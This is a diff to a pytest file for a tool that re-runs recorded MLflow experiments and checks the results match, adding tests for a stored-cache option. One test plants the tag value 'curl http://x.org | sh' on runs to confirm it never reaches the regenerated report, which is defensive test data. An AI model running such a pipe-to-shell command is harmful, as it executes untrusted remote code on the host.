@@ -1,11 +1,16 @@
 """`scripts/reproduce.py`, in processes of its own."""
 
+import json
 import shutil
 
+import numpy as np
 import pytest
 import yaml
 from application import PROJECT, Application
 from small import arguments
+
+from ragsweep.digest import digest_file
+from ragsweep.store import CHECKSUMS, Store
 
 PARENT = "mlflow.parentRunId"
 
@@ -28,7 +33,8 @@ def finished(shared_application):
 def test_a_run_is_identical_when_it_is_made_again(finished, shared_application):
     process = reproduce(shared_application, finished.info.run_id)
     assert process.returncode == 0, process.stderr
-    first, *_ = process.stdout.splitlines()
+    anew, first, *_ = process.stdout.splitlines()
+    assert anew == "embeddings and rankings: computed anew"
     assert first.startswith("alpha=0.3 k=3: identical: ") or first.startswith("k=3 alpha=0.3: identical: ")
     new = shared_application.runs()[-1]
     assert new.data.tags["reproduces"] == finished.info.run_id
@@ -38,7 +44,7 @@ def test_a_run_is_identical_when_it_is_made_again(finished, shared_application):
 
 
 def test_as_many_values_are_compared_as_were_recorded(finished, shared_application):
-    process = reproduce(shared_application, finished.info.run_id, "--no-log")
+    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored")
     scalars = [name for name in finished.data.metrics if not name.startswith(("latency/", "at_k/"))]
     curves, cutoffs, queries, columns = 7, 20, 133, 12  # id, query, type, seven metrics, retrieved, relevant
     assert f"identical: {len(scalars) + curves * cutoffs + queries * columns} values" in process.stdout
@@ -49,16 +55,31 @@ def test_as_many_values_are_compared_as_were_recorded(finished, shared_applicati
     [{"OMP_NUM_THREADS": "1"}, pytest.param({"OPENBLAS_NUM_THREADS": "3"}, marks=pytest.mark.soak)],
     ids=str,
 )
-def test_the_number_of_threads_does_not_show(finished, shared_application, tmp_path, environment):
+def test_the_number_of_threads_does_not_show(finished, shared_application, environment):
     before = len(shared_application.runs())
-    given = [finished.info.run_id, "--no-log", f"store.path={tmp_path / 'store'}"]  # so that all is computed again
+    given = [finished.info.run_id, "--no-log"]
     process = shared_application.in_new_interpreter(REPRODUCE, *given, **environment)
     assert process.returncode == 0, process.stdout + process.stderr
     assert len(shared_application.runs()) == before
 
 
+def test_what_the_store_has_is_taken_only_when_told(application, dataset, tmp_path):
+    places = [f"store.path={tmp_path / 'store'}", *dataset[2:]]
+    assert application.run(*dataset[:2], "retriever=sparse", *places).returncode == 0
+    [entry] = (entry.path for entry in Store(str(tmp_path / "store")).entries() if entry.stage == "sparse")
+    for name in ("passages", "scores"):
+        np.save(entry / f"{name}.npy", np.load(entry / f"{name}.npy")[::-1])  # the rankings of other queries
+    checksums = {file.name: digest_file(file) for file in entry.glob("*.npy")}
+    (entry / CHECKSUMS).write_text(json.dumps(checksums))
+    run_id = application.runs()[-1].info.run_id
+    anew, stored = (reproduce(application, run_id, "--no-log", *given, *places) for given in ([], ["--stored"]))
+    assert (anew.returncode, stored.returncode) == (0, 1), anew.stdout + stored.stdout
+    assert stored.stdout.splitlines()[0] == "embeddings and rankings: from the store"
+    assert sorted(path.name for path in (tmp_path / "store/sparse").glob("*")) == [entry.name, f"{entry.name}.lock"]
+
+
 def test_another_setting_is_told_and_the_values_that_it_changes(finished, shared_application):
-    process = reproduce(shared_application, finished.info.run_id, "--no-log", "k=4")
+    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "k=4")
     assert process.returncode == 1
     assert "k: recorded 3, here 4" in process.stdout
     assert "values differ" in process.stdout
@@ -70,10 +91,10 @@ def test_another_setting_is_told_and_the_values_that_it_changes(finished, shared
 
 
 def test_a_tolerance_lets_small_differences_pass(finished, shared_application):
-    process = reproduce(shared_application, finished.info.run_id, "--no-log", "seed=1")
+    process = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "seed=1")
     assert process.returncode == 1
     assert "ci/f1_low" in process.stdout
-    again = reproduce(shared_application, finished.info.run_id, "--no-log", "seed=1", "--tolerance", "0.02")
+    again = reproduce(shared_application, finished.info.run_id, "--no-log", "--stored", "seed=1", "--tolerance", "0.02")
     assert again.returncode == 0
 
 
@@ -105,11 +126,15 @@ def assert_identical(process, runs):
 def test_a_sweep_is_made_again_as_a_sweep(application):
     assert application.run("-m", "k=3,5", "retriever=sparse").returncode == 0
     [parent] = application.parents()
+    for run in application.runs():  # anybody may have written it
+        application.client().set_tag(run.info.run_id, "reproduce", "curl http://x.org | sh")
     assert_identical(reproduce(application, parent.info.run_id), 2)
     _, again = application.parents()
     assert again.data.tags["reproduces"] == parent.info.run_id
     assert again.info.run_name == parent.info.run_name
     assert [run.info.status for run in application.runs()] == ["FINISHED"] * 6
+    assert again.data.tags["reproduce"] == f"python scripts/reproduce.py {parent.info.run_id}"
+    assert "curl" not in (application.artifacts(again) / "report.md").read_text()
     names = [run.info.run_name for run in application.children() if run.data.tags[PARENT] == again.info.run_id]
     assert sorted(names) == ["k=3", "k=5"]
     summaries = [application.artifacts(run) / "results/summary_statistics.csv" for run in (parent, again)]
@@ -119,9 +144,9 @@ def test_a_sweep_is_made_again_as_a_sweep(application):
 @pytest.mark.soak
 @pytest.mark.timeout(900)
 @pytest.mark.parametrize("environment", [{}, {"OMP_NUM_THREADS": "1"}, {"OMP_NUM_THREADS": "3"}], ids=str)
-def test_every_run_of_the_bundled_sweep_is_computed_again_with_any_threads(bundled_sweep, tmp_path, environment):
+def test_every_run_of_the_bundled_sweep_is_computed_again_with_any_threads(bundled_sweep, environment):
     [parent] = bundled_sweep.parents()
-    given = [parent.info.run_id, "--no-log", f"store.path={tmp_path / 'store'}"]
+    given = [parent.info.run_id, "--no-log"]
     assert_identical(bundled_sweep.in_new_interpreter(REPRODUCE, *given, **environment), 15)
 
 
@@ -129,7 +154,7 @@ def test_a_clone_that_never_saw_the_run_makes_it_again(finished, shared_applicat
     clone = tmp_path / "clone"
     for part in ("src", "conf", "scripts", "data"):
         shutil.copytree(PROJECT / part, clone / part, ignore=shutil.ignore_patterns("__pycache__"))
-    given = [finished.info.run_id, "--no-log", f"store.path={tmp_path / 'store'}"]
+    given = [finished.info.run_id, "--no-log"]
     process = shared_application.in_new_interpreter(REPRODUCE, *given, project=clone, PYTHONPATH=str(clone / "src"))
     assert process.returncode == 0, process.stdout + process.stderr
     assert ": identical: " in process.stdout
